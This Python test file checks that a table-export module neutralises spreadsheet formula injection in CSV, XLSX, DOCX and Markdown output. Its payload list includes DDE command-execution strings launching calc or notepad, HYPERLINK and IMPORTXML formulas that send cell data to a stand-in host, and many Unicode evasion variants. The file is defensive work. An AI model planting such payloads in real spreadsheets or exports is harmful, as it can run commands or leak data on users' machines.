"""Tables as files, read back; no cell of any kind of file is a formula."""

import csv
import io
import re

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from studies import exporting
from studies.exporting import FORMATS, Table, as_csv, as_docx, as_markdown, as_xlsx
from studies.formulas import covered, uncovered

PAYLOADS = [
    "=1+1", "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", "\r\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    " =1", "   +1", "\u00a0=1", "\u2003=1", "\u3000=1", "\u200b=1", "\ufeff=1", "\u200b\u00a0 \ufeff=1", "\u2060-1",
    "\u202e=1", "\x00=1", "\x0b=1", "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"here")', '=DDE("cmd";"/C calc";"x")', "+cmd|'/C notepad'!'A1'",
    '=IMPORTXML("http://x.example","//a")', "a;=1+1", "a,=1+1", "a\t=1+1", "a;  =1+1", 'a;"=1+1', '"=1+1', '""=1',
    'a\n=1+1', 'a"\r\n=1+1,"', 'a";=1+1;"b', '","=1+1","', "a, -1", "'=1", "''+1", ";=1", ",=1", "﹦1", "a;'=1",
]  # fmt: skip
STARTS = set("=+-@＝＋－＠﹦﹢﹣﹫")
INVISIBLE = re.compile('[\\s\x00-\x1f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff"]*')


def table(*cells, name="things", **more) -> Table:
    more = {"heading": ("Name",)} | more
    return Table(name, "Things", ("Name", "Words"), [["x", cell] for cell in cells], **more)


def is_inert(cell: str) -> bool:
    return INVISIBLE.sub("", cell, count=1)[:1] not in STARTS


def cells_of_a_program(data: bytes, separator: str) -> list[str]:
    """All cells as a program finds them that cuts lines at this sign, also where the file has another."""
    text = data.decode("utf-8-sig")
    strict = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    # A program that knows nothing of quotation marks, and one that strips them from each piece.
    naive = re.split(f"[{separator}\r\n]", text)
    return [*strict, *naive, *(cell.strip('"') for cell in naive)]


def test_there_are_forty_payloads():
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("kind", ["csv", "csv;"])
@pytest.mark.parametrize("read_with", [",", ";", "\t"])
def test_csv_has_no_cell_that_begins_like_a_formula(payload, kind, read_with):
    data = FORMATS[kind].write(table(payload, heading=(), notes=(payload,)))
    assert [cell for cell in cells_of_a_program(data, read_with) if not is_inert(cell)] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_read_as_it_is_meant_has_the_words_but_for_apostrophes(payload):
    rows = list(csv.reader(io.StringIO(as_csv(table(payload)).decode("utf-8-sig"), newline="")))
    assert rows == [["Name", "Words"], ["x", covered(payload)]]
    assert uncovered(rows[1][1]) == payload
    assert covered(payload).replace("'", "") == payload.replace("'", "")


@given(st.text(alphabet="=+-@'\",;\t\r\n \u200bab＝", max_size=12))
@settings(max_examples=400)
def test_covering_is_undone_exactly(text):
    assert uncovered(covered(text)) == text
    assert is_inert(covered(text))


@pytest.mark.parametrize("words", ["well - no", "a=b", "e-mail@x.example", "A – B", "“=”", "3 + 4", "'tis", ""])
def test_ordinary_words_stay_as_they_are(words):
    assert covered(words) == words


def test_xlsx_has_texts_and_numbers_and_no_formula():
    data = as_xlsx(table(*PAYLOADS, 7, notes=["=1+1"]))
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    words = [row[1].value for row in book["Things"].iter_rows(min_row=2)]
    faithful = [exporting.clean(payload) for payload in PAYLOADS]
    assert words == [*faithful, 7]
    assert {cell.number_format for cell in cells if cell.data_type == "s"} == {"@"}
    assert book[exporting.NOTES]["A2"].value == "=1+1"


def test_docx_and_markdown_have_the_words():
    document = Document(io.BytesIO(as_docx(table("=1+1", "+1\n-2", quote="Words"))))
    said = [paragraph.text for paragraph in document.paragraphs]
    assert said == ["Things", "x", "=1+1", "x", "+1", "-2"]
    text = as_markdown(table("# no heading\n- <b>no</b> list\n1. nor this &lt;\n===", quote="Words")).decode()
    assert "> \\# no heading\n> \\- \\<b\\>no\\</b\\> list\n> 1\\. nor this \\&lt;\n> \\===" in text


@pytest.mark.parametrize("sign", ["a", "😀", "ß"])
def test_what_is_too_long_for_a_cell_of_excel_goes_on_below(sign):
    long = sign * (exporting.LONGEST_CELL + 10)
    book = load_workbook(io.BytesIO(as_xlsx(table("first", long, "last"))))
    rows = [[cell.value for cell in row] for row in book["Things"].iter_rows(min_row=2)]
    assert "".join(row[1] for row in rows[1:-1]) == long
    assert [row[0] for row in rows] == ["x", "x", *[None] * (len(rows) - 3), "x"]
    assert all(len(row[1].encode("utf-16-le")) // 2 <= exporting.LONGEST_CELL for row in rows)
    assert "longer texts go on in the row below" in book[exporting.NOTES]["A2"].value


def test_more_rows_than_a_sheet_takes_go_on_in_another(monkeypatch):
    monkeypatch.setattr(exporting, "MOST_ROWS", 3)
    book = load_workbook(io.BytesIO(as_xlsx(table("a", "b", "c", "d", "e"))))
    assert book.sheetnames == ["Things", "Things 2", "Things 3", exporting.NOTES]
    found = [row[1].value for name in book.sheetnames[:3] for row in book[name].iter_rows(min_row=2)]
    assert found == ["a", "b", "c", "d", "e"]
    assert book[exporting.NOTES]["A2"].value == "A sheet of Excel takes 3 rows; there are 3 sheets."


def test_nothing_to_export_is_a_file_with_a_head():
    assert as_csv(table()).decode("utf-8-sig") == "Name,Words\r\n"
    assert [cell.value for cell in load_workbook(io.BytesIO(as_xlsx(table()))).active[1]] == ["Name", "Words"]
